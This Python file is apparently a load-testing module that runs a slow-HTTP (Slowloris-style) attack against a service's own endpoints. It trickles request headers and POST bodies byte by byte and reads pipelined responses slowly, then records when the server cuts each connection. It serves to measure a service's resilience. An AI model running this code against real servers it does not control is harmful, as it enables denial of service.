"""Opens many connections, so many a second, a third of each kind, and tells when they were cut off:

heads    send the head of a request byte by byte, one a second
bodies   send the body of a movement so
readers  ask for more than the system buffers, and read the answers byte by byte, two a second
"""

import math
import resource
import select
import socket
import time
from collections import deque
from collections.abc import Callable
from typing import Any

from measure.clients.http import Address, Connection
from measure.machine.child import answer

KINDS = ("heads", "bodies", "readers")
# Of answers, by each reader.
ASKED_BYTES = 1 << 19
PAGE = "/stores/1/stock?limit=1000"

Queue = deque[tuple[float, "Client"]]


def attack(order: dict[str, Any]) -> dict[str, Any]:
    """How many of each kind were opened, and the seconds after which each of those that were cut off was. Who is left
    after `seconds` is given up."""
    _, most_files = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most_files, most_files))
    if most_files < order["connections"] + 100:
        raise SystemExit(f"the system allows {most_files} open files (ulimit -Hn)")
    clients = Clients(tuple(order["address"]), order["key"], order["seconds"])
    clients.run(order["connections"], order["rate"])
    return {"opened": clients.opened, "cut_s": clients.cut_s}


class Client:
    def __init__(self, kind: str, connection: socket.socket) -> None:
        self.kind = kind
        self.socket = connection
        self.began = time.monotonic()


class Clients:
    """All connections, in one thread with little to do for each: what this costs, the service does not get."""

    def __init__(self, address: Address, key: str, patience_s: float) -> None:
        self._address, self._patience_s = address, patience_s
        self.opened = dict.fromkeys(KINDS, 0)
        self.cut_s: dict[str, list[float]] = {kind: [] for kind in KINDS}
        self._open: dict[int, Client] = {}
        self._epoll = select.epoll()
        # In order: each client comes back after its period.
        self._sending: Queue = deque()
        self._reading: Queue = deque()
        pages = Connection(address, key)
        request = pages.message("GET", PAGE)
        page_bytes = len(pages.get(PAGE).body) + 500
        pages.close()
        movement = pages.message("POST", "/stock-movements", b"")
        self._first = {
            "heads": "GET /livez HTTP/1.1\r\nHost: {}:{}\r\nX-Slow: ".format(*address).encode(),
            "bodies": movement.replace(b"Content-Length: 0", b"Content-Length: 100000") + b"{",
            "readers": request * math.ceil(ASKED_BYTES / page_bytes),
        }

    def run(self, connections: int, rate: float) -> None:
        began = time.monotonic()
        number = 0
        while number < connections or self._open:
            now = time.monotonic()
            while number < connections and began + number / rate <= now:
                self._connect(KINDS[number % len(KINDS)])
                number += 1
            self._due(self._sending, now, 1, self._send)
            self._due(self._reading, now, 0.5, self._read)
            for descriptor, _ in self._epoll.poll(0.01):
                self._was_cut(self._open[descriptor])
            self._give_up(now)

    def _connect(self, kind: str) -> None:
        connection = socket.socket()
        if kind == "readers":
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        try:
            connection.connect(self._address)
            connection.setblocking(False)
            connection.send(self._first[kind])
        except OSError:
            connection.close()
            return
        client = Client(kind, connection)
        self.opened[kind] += 1
        self._open[connection.fileno()] = client
        if kind == "readers":
            # Only an error is the cut: what came before it can still be read.
            self._epoll.register(connection, select.EPOLLERR)
            self._reading.append((client.began + 0.5, client))
        else:
            # Nothing is answered before a request has been sent whole: what comes, or ends, is the cut.
            self._epoll.register(connection, select.EPOLLIN)
            self._sending.append((client.began + 1, client))

    def _due(self, queue: Queue, now: float, period_s: float, act: Callable[[Client], None]) -> None:
        while queue and queue[0][0] <= now:
            when, client = queue.popleft()
            if client.socket.fileno() < 0:
                continue
            try:
                act(client)
            except BlockingIOError:
                pass
            except OSError:
                self._was_cut(client)
                continue
            queue.append((when + period_s, client))

    def _send(self, client: Client) -> None:
        client.socket.send(b"1")

    def _read(self, client: Client) -> None:
        if not client.socket.recv(1):
            raise ConnectionResetError

    def _was_cut(self, client: Client) -> None:
        self.cut_s[client.kind].append(round(time.monotonic() - client.began, 2))
        self._close(client)

    def _give_up(self, now: float) -> None:
        while self._open:
            oldest = next(iter(self._open.values()))
            if now - oldest.began < self._patience_s:
                break
            self._close(oldest)

    def _close(self, client: Client) -> None:
        del self._open[client.socket.fileno()]
        client.socket.close()


if __name__ == "__main__":
    answer(attack)
